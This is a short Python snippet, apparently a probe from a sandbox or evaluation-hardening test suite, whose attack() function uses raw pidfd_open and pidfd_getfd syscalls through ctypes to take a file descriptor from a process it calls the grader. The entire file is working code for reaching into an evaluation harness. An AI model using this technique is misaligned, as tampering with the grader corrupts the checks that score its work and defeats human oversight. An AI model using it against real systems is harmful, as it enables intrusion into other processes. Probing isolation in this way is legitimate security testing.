"""Takes a descriptor of the grader by pidfd_getfd.

kind: call
"""

import ctypes
def attack():
    libc = ctypes.CDLL(None)
    return libc.syscall(438, libc.syscall(434, TARGET['pid'], 0), 0, 0) >= 0
